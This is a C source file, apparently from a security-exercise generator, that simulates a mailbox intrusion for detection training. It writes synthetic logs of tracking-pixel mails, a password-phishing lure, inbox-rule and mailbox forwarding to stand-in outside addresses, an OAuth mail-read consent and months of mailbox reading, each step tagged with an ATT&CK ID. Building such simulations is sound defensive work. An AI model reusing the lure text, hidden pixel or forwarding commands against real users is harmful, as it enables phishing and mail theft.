/* intrusion_mail: tracking mails to many, a page that asks a few of those who looked for their password, and then their mailboxes read for
 * months, a little at a time, by one constant program from home networks that change. */
#include "exercise/intrusion.h"
#include "exercise/records.h"
#include "exercise/words.h"

#define RECIPIENTS_MAX 400
#define PIXEL_HOST "px.lumen-stat.example"
#define PIXEL_ADDRESS "203.0.113.71"
#define PAGE_HOST "chamber-webmail.test"
#define PAGE_ADDRESS "203.0.113.72"

static const struct {
    const char *name, *from, *domain;
} senders[] = {{"Daily Post Foreign Desk", "desk@daily-post-reader.example", "daily-post-reader.example"},
               {"Marta Quill, Evening Sheet", "m.quill@press-circle.test", "press-circle.test"},
               {"World Wire", "world@wire-notes.example", "wire-notes.example"},
               {"Jonas Ferrer", "j.ferrer@press-circle.test", "press-circle.test"},
               {"The Gazette Weekend", "weekend@daily-post-reader.example", "daily-post-reader.example"},
               {"Nora Salt", "n.salt@wire-notes.example", "wire-notes.example"}};
static const char *const programs[] = {
    "Mozilla/5.0 (X11; Linux x86_64; rv:78.0) Gecko/20100101 Firefox/78.0",
    "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0.4240.75 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; WOW64; rv:68.0) Gecko/20100101 Firefox/68.0"};

/* A session of the intruder's in a mailbox. */
struct hold {
    struct person *person;
    char user[80], session[GUID_MAX], token[GUID_MAX], address[ADDRESS_MAX];
    uint32_t address_until, account, access; /* the day; doors */
    bool open;
};

static void visit(struct plan *p, const struct person *who, int64_t when, const char *host, const char *address,
                  const char *path, bool tls, const char *what) {
    struct office *const o = p->o;
    char from[ADDRESS_MAX], agent[200], url[160];
    str const says = person_agent(o, who, office_day(o, when), agent);
    struct flow w = {.from = from,
                     .to = address,
                     .service = tls ? "ssl" : "http",
                     .port = tls ? 443 : 80,
                     .lasts = SECOND,
                     .sent = 600,
                     .received = tls ? 9000 : 43};

    host_address(SERVERS + who->number, from);
    snprintf(url, sizeof url, tls ? "%s:443" : "http://%s%s", host, tls ? "" : path);
    record_name(o, when, from, host, address);
    plan_act(p, "T1598.003", "reconnaissance", "%s %s", who->login, what);
    record_proxy(o, when + SECOND / 4,
                 &(struct request){.method = tls ? "CONNECT" : "GET",
                                   .path = url,
                                   .query = "-",
                                   .client = str_of(from),
                                   .agent = says,
                                   .user = who->login,
                                   .referrer = "-",
                                   .status = 200,
                                   .bytes = (unsigned)w.received});
    if (tls) {
        record_flow_tls(o, when + SECOND / 2, &w, host);
        return;
    }
    plan_act(p, "T1598.003", "reconnaissance", "%s %s", who->login, what);
    record_flow_http(o, when + SECOND / 2, &w, host, "GET", path, says, 200);
}

static void tracking_mail(struct plan *p, struct person *to, int64_t when, unsigned wave, bool opens) {
    struct office *const o = p->o;
    size_t const s = (to->number * 5 + wave * 7) % COUNT(senders);
    const struct word_article *const a = &word_articles[wave];
    struct buf text = {0}, html = {0};
    char token[24], path[60];

    word_token(o, 16, token);
    snprintf(path, sizeof path, "/i/%s.gif", token);
    buf_format(&text,
               "Dear %s,\n\nyou may find this of interest before your next session.\n\n%s\n\n%s\n\n%s\n\n%s\n\n%s\n",
               to->name, a->title, a->parts[0], a->parts[1], a->parts[2], senders[s].name);
    buf_format(&html,
               "<html><body><p>Dear %s,</p><p>you may find this of interest before your next "
               "session.</p><h2>%s</h2><p>%s</p><p>%s</p><p>%s</p><p>%s</p>"
               "<img src=\"http://" PIXEL_HOST
               "%s\" width=\"1\" height=\"1\" style=\"display:none\" alt=\"\"></body></html>",
               to->name, a->title, a->parts[0], a->parts[1], a->parts[2], senders[s].name, path);
    plan_act(p, "T1598.003", "reconnaissance", "tracking mail to %s, token %s", to->login, token);
    record_message(
        o, when,
        &(struct message){.from_name = senders[s].name,
                          .from = senders[s].from,
                          .domain = senders[s].domain,
                          .subject = str_of(a->title),
                          .text = buf_str(&text),
                          .html = buf_str(&html),
                          .headers = "X-Mailer: MergePost 4\nList-Unsubscribe: <mailto:off@mergepost.example>\n",
                          .server = "out2.mergepost.example",
                          .address = "198.51.100.70",
                          .checks = "spf=pass; dkim=none; dmarc=none"},
        to);
    plan_put(p, TRUTH_DOMAINS, senders[s].domain);
    o->line.failed |= text.failed || html.failed;
    buf_free(&text);
    buf_free(&html);
    if (!opens)
        return;
    /* Who is away opens it where no log of the house sees it. */
    for (uint32_t day = office_day(o, when); day < office_day(o, when) + 3; day++) {
        if (person_is_away(o, to, day) || !person_works(to, day))
            continue;
        int64_t const at = plan_when(p, day, 8, 17);

        if (at > when + MINUTE) {
            visit(p, to, at, PIXEL_HOST, PIXEL_ADDRESS, path, false, "opened the tracking mail");
            return;
        }
    }
}

/* Returns when the password was given away. */
static int64_t page_mail(struct plan *p, struct person *to, uint32_t day) {
    struct office *const o = p->o;
    int64_t const when = plan_when(p, day, 7, 8);
    struct buf text = {0}, html = {0};

    buf_format(
        &text,
        "Dear %s,\n\nyour mailbox has been moved. Please confirm your account within two days at https://" PAGE_HOST
        "/confirm or messages will be held.\n\n"
        "Service desk\n",
        to->name);
    buf_format(&html,
               "<html><body><p>Dear %s,</p><p>your mailbox has been moved. Please <a href=\"https://" PAGE_HOST
               "/confirm\">confirm your account</a> within two days, "
               "or messages will be held.</p><p>Service desk</p></body></html>",
               to->name);
    plan_act(p, "T1566.002", "initial-access", "mail to %s with a page that asks for the password", to->login);
    record_message(o, when,
                   &(struct message){.from_name = "Service desk",
                                     .from = "service@" PAGE_HOST,
                                     .domain = PAGE_HOST,
                                     .subject = S("Your mailbox has been moved"),
                                     .text = buf_str(&text),
                                     .html = buf_str(&html),
                                     .headers = "",
                                     .server = "mail." PAGE_HOST,
                                     .address = PAGE_ADDRESS,
                                     .checks = "spf=pass; dkim=none; dmarc=none"},
                   to);
    o->line.failed |= text.failed || html.failed;
    buf_free(&text);
    buf_free(&html);
    visit(p, to, when + 2 * HOUR, PAGE_HOST, PAGE_ADDRESS, "", true, "went to the page that asks for the password");
    return when + 2 * HOUR;
}

/* What the intruder is in that mailbox at `when`; signs in where it is time for it. */
static struct actor hold(struct plan *p, struct hold *h, int64_t when, const char *program) {
    struct office *const o = p->o;
    uint32_t const day = office_day(o, when);
    struct actor a = {.user = str_of(h->user),
                      .name = h->person->name,
                      .country = "XA",
                      .city = "Millbrook",
                      .agent = str_of(program),
                      .client = "Client=OWA;",
                      .way = "Browser",
                      .app = "One Outlook Web",
                      .system = "",
                      .device = "",
                      .session = h->session,
                      .token = h->token,
                      .mfa = true};

    if (day >= h->address_until) {
        plan_relay(p, h->address);
        h->address_until = day + 3 + (uint32_t)rng_below(o->r, 12);
    }
    a.address = str_of(h->address);
    if (!h->open || rng_chance(o->r, 35)) {
        office_guid(o, h->session);
        office_guid(o, h->token);
        plan_put(p, TRUTH_SESSIONS, h->session);
        plan_act(p, "T1078.004", h->open ? "persistence" : "initial-access", "signed in as %s from %s",
                 h->person->login, h->address);
        record_signin(o, when, &a, 0);
        h->open = true;
        truth_door_used(o->truth, p->id, h->account, when);
    }
    truth_door_used(o->truth, p->id, h->access, when);
    return a;
}

static void take_files(struct plan *p, struct hold *h, uint32_t day, const char *program) {
    struct office *const o = p->o;
    int64_t const when = plan_when(p, day, 2, 5);
    struct actor const a = hold(p, h, when, program);
    char name[60], file[160];

    for (unsigned i = 0; i < 12; i++) {
        word_file(o, name);
        snprintf(file, sizeof file, "https://chamber.sharepoint.example/sites/office/%s", name);
        plan_act(p, "T1530", "collection", "downloaded %s as %s", name, h->person->login);
        record_file(o, when + (i + 1) * 9 * SECOND, &a, "FileDownloaded", str_of(file));
        truth_object(o->truth, p->id, str_of(file), 0);
    }
}

/* The answer, when it was found: what is closed of each mailbox. */
static void evict(struct plan *p, struct hold *holds, size_t count, uint32_t day) {
    struct office *const o = p->o;
    int64_t const when = plan_when(p, day, 10, 12);

    for (size_t i = 0; i < count; i++) {
        int64_t const at = when + (int64_t)i * 10 * MINUTE;

        plan_answer(p, "password of %s reset", holds[i].person->login);
        record_directory(o, at, S("sync@" DOMAIN), "Reset user password.", str_of(holds[i].user), S(""));
        truth_door_closed(o->truth, p->id, holds[i].account, at, "password reset");
        plan_answer(p, "sessions of %s revoked", holds[i].person->login);
        record_directory(o, at + MINUTE, S("sync@" DOMAIN), "Update StsRefreshTokenValidFrom Timestamp.",
                         str_of(holds[i].user), S(""));
        truth_door_closed(o->truth, p->id, holds[i].access, at + MINUTE, "sessions revoked");
    }
}

static bool run(struct plan *p) {
    struct office *const o = p->o;
    uint32_t const start = plan_day(p, 4, 18), page = start + 28 + (uint32_t)rng_below(o->r, 15),
                   enter = page + 1 + (uint32_t)rng_below(o->r, 4);
    bool const found = rng_chance(o->r, 60), keeps_consent = found && rng_chance(o->r, 50);
    uint32_t const last = found ? plan_day(p, 75, 92) : o->days - 3;
    const char *const program = programs[rng_below(o->r, COUNT(programs))];
    struct hold holds[VICTIMS_MAX] = {0};
    size_t const wanted = 2 + rng_below(o->r, VICTIMS_MAX - 1);
    size_t count = 0;
    uint32_t recipients = 0;
    char rule[120], app[GUID_MAX], server[ADDRESS_MAX];

    for (; count < wanted; count++) {
        struct person *const v =
            office_person(o, count % 3 == 2 ? ROLE_PRESS : ROLE_MEMBER, start, o->days, true, true);

        if (!v)
            break;
        v->taken = true;
        holds[count].person = v;
        snprintf(holds[count].user, sizeof holds[count].user, "%s@" DOMAIN, v->login);
    }
    if (count < 2)
        return false;
    plan_begin(p, &shape_mail);
    plan_put(p, TRUTH_PROGRAMS, program);
    plan_put(p, TRUTH_DOMAINS, "lumen-stat.example");
    plan_put(p, TRUTH_DOMAINS, PAGE_HOST);
    plan_put(p, TRUTH_ADDRESSES, PIXEL_ADDRESS);
    plan_put(p, TRUTH_ADDRESSES, PAGE_ADDRESS);

    /* Three waves, a week apart. */
    for (uint32_t i = 0; i < o->accounts && recipients < RECIPIENTS_MAX; i++) {
        struct person *const to = &o->people[i];
        bool victim = false;

        for (size_t k = 0; k < count; k++)
            victim |= holds[k].person == to;
        if (to->from_day > start || to->to_day < start + 30 ||
            !(victim || rng_chance(o->r, to->role == ROLE_MEMBER ? 85 : 25)))
            continue;
        recipients++;
        for (unsigned wave = 0; wave < WORD_ARTICLES; wave++)
            tracking_mail(p, to, plan_when(p, start + wave * 7 + i % 4, 7, 15), wave, victim || rng_chance(o->r, 30));
    }
    for (size_t i = 0; i < count; i++) {
        holds[i].account = truth_door(o->truth, p->id, "account", str_of(holds[i].user),
                                      page_mail(p, holds[i].person, page + (uint32_t)i % 2));
        holds[i].access = truth_door(o->truth, p->id, "session", str_of(holds[i].user), INSTANT_NONE);
    }

    /* A rule, a forwarding, a consent; some of them where there are victims enough. */
    {
        int64_t const when = plan_when(p, enter + 9, 2, 6);
        struct actor const a = hold(p, &holds[0], when, program);

        snprintf(rule, sizeof rule, "%s\\.", holds[0].user);
        plan_act(p, "T1114.003", "collection", "inbox rule of %s sends mail on", holds[0].person->login);
        record_exchange(o, when + MINUTE, &a, "New-InboxRule", str_of(rule), "Name", ".", "ForwardTo",
                        "archive.box@post-keep.test", "StopProcessingRules", "False", NULL);
        uint32_t const door = truth_door(o->truth, p->id, "rule", str_of(rule), when + MINUTE);

        if (found) {
            int64_t const at = plan_when(p, last + 1, 13, 14);

            plan_answer(p, "inbox rule of %s removed", holds[0].person->login);
            record_exchange(
                o, at,
                &(struct actor){.user = S("sync@" DOMAIN), .address = S("203.0.113.10"), .session = "", .token = ""},
                "Remove-InboxRule", str_of(rule), "Identity", rule, NULL);
            truth_door_closed(o->truth, p->id, door, at, "rule removed");
        }
        plan_put(p, TRUTH_DOMAINS, "post-keep.test");
    }
    if (count > 2) {
        int64_t const when = plan_when(p, enter + 15, 2, 6);
        struct actor const a = hold(p, &holds[2], when, program);

        plan_act(p, "T1114.003", "collection", "mailbox of %s sends all mail on", holds[2].person->login);
        record_exchange(o, when + MINUTE, &a, "Set-Mailbox", str_of(holds[2].user), "Identity", holds[2].user,
                        "ForwardingSmtpAddress", "smtp:keep2@post-keep.test", "DeliverToMailboxAndForward", "True",
                        NULL);
        (void)truth_door(o->truth, p->id, "forwarding", str_of(holds[2].user),
                         when + MINUTE); /* nobody looks for it, also when the intruder was found */
    }
    office_guid(o, app);
    snprintf(server, sizeof server, "203.0.113.%u", 80 + (unsigned)rng_below(o->r, 8));
    plan_put(p, TRUTH_ADDRESSES, server);
    plan_put(p, TRUTH_PROGRAMS, "Client=REST;Client=MailArchiveHelper;;");
    {
        int64_t const when = plan_when(p, enter + 20, 3, 6);
        struct actor a = hold(p, &holds[1], when, program);

        plan_act(p, "T1528", "persistence", "%s lets the application Mail Archive Helper read mail",
                 holds[1].person->login);
        record_consent(o, when + MINUTE, str_of(holds[1].user), app, "Mail Archive Helper",
                       "offline_access Mail.Read Mail.ReadBasic User.Read", false);
        uint32_t const door = truth_door(o->truth, p->id, "consent", str_of(app), when + MINUTE);
        uint32_t const until = found && !keeps_consent ? last : o->days - 3;

        a.address = str_of(server);
        a.client = "Client=REST;Client=MailArchiveHelper;;";
        a.session = a.token = "";
        for (uint32_t day = enter + 21; day < until; day += 5 + (uint32_t)rng_below(o->r, 5)) {
            int64_t const at = plan_when(p, day, 1, 5);

            plan_act(p, "T1114.002", "collection", "the application reads the mailbox of %s", holds[1].person->login);
            record_mail_read_later(o, at, &a, holds[1].person, 6, &p->seen[1], p->id);
            truth_door_used(o->truth, p->id, door, at);
        }
        if (found && !keeps_consent) {
            int64_t const at = plan_when(p, last + 1, 14, 15);

            char whose[160];

            snprintf(whose, sizeof whose, "{\"Name\":\"User.UPN\",\"NewValue\":\"\",\"OldValue\":\"%s\"}",
                     holds[1].user);
            plan_answer(p, "consent of %s taken back", holds[1].person->login);
            record_directory(o, at, S("sync@" DOMAIN), "Remove OAuth2PermissionGrant.", str_of(app), str_of(whose));
            truth_door_closed(o->truth, p->id, door, at, "consent removed");
        }
    }

    /* Months of reading. */
    for (size_t i = 0; i < count; i++) {
        struct hold *const h = &holds[i];
        unsigned turn = 0;

        plan_put(p, TRUTH_ACCOUNTS, h->user);
        h->open = false;
        h->address_until = 0;
        for (uint32_t day = enter + (uint32_t)i; day < last; day += 3 + (uint32_t)rng_below(o->r, 6)) {
            int64_t const when = plan_when(p, day, 1, 9);
            struct actor const a = hold(p, h, when, program);

            plan_act(p, "T1114.002", "collection", "reads the mailbox of %s", h->person->login);
            record_mail_read_later(o, when + 40 * SECOND, &a, h->person, 2 + (unsigned)rng_below(o->r, 4), &p->seen[i],
                                   p->id);
            if (i == 0 && turn++ % 12 == 5) {
                plan_act(p, "T1114.002", "collection", "synchronises the inbox of %s", h->person->login);
                record_mail_sync(o, when + 2 * MINUTE, &a, h->person, "Inbox");
            }
        }
    }
    holds[0].open = false;
    holds[0].address_until = 0;
    take_files(p, &holds[0], enter + 40, program);
    if (found)
        evict(p, holds, count, last + 1);
    return true;
}

const struct shape shape_mail = {"tracking-mail",
                                 "Tracking mails, then mailboxes read for months through home networks",
                                 "a page that asked for the password, after tracking mails", run};
